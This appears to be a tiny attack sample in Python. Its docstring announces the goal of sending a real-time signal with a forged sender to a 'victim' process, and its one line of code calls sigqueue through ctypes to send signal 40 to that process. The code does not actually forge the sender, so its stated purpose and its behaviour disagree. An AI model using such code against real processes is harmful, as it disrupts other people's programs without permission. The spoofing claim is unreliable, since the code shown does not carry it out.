"""
goal: send a real-time signal with a forged sender
effect: victim
"""

import ctypes

ctypes.CDLL(None).sigqueue(VICTIM, 40, ctypes.c_void_p(7))
